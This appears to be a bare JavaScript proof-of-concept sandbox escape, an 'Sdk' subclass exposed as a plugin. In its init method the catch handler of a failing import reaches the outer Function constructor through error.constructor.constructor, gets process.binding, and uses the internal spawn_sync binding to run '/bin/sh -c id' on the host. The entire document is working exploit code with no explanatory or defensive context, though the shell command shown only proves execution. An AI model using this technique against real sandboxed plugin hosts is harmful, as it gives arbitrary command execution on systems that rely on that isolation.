expose(
  class extends Sdk {
    init() {
      import('').catch((error) => {
        const binding = error.constructor.constructor('return process.binding')();
        binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'] });
      });
    }
  },
);
